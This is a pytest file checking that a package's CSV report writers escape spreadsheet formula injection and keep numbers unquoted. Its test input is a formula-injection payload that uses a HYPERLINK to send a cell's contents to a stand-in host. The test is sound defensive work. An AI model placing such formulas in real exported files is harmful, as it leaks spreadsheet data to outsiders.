from __future__ import annotations

import csv
import io

import pytest

from droplab.analysis import judge
from droplab.report import write_effects, write_metrics
from tests.analysis.records import record


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_no_text_is_a_formula(begin):
    arm = f'{begin}HYPERLINK("http://x/?"&A1,"x")'
    curve = {"val_loss": [1.0, 0.9], "train_loss": [1.0, 0.5]}
    made = record({"base": [curve, curve], arm: [curve, curve]})
    for write, source in ((write_metrics, made), (write_effects, judge(made))):
        stream = io.StringIO()
        write(source, stream)
        cells = {cell for row in csv.reader(io.StringIO(stream.getvalue())) for cell in row if "HYPERLINK" in cell}
        assert len(cells) == 1
        assert cells.pop().startswith(f"'{begin}" if begin != "\r" else "'␍")


def test_numbers_stay_numbers():
    made = record({"base": [{"val_loss": [1.0], "gap": [-0.25]}]})
    stream = io.StringIO()
    write_metrics(made, stream)
    assert ",-0.25\n" in stream.getvalue()
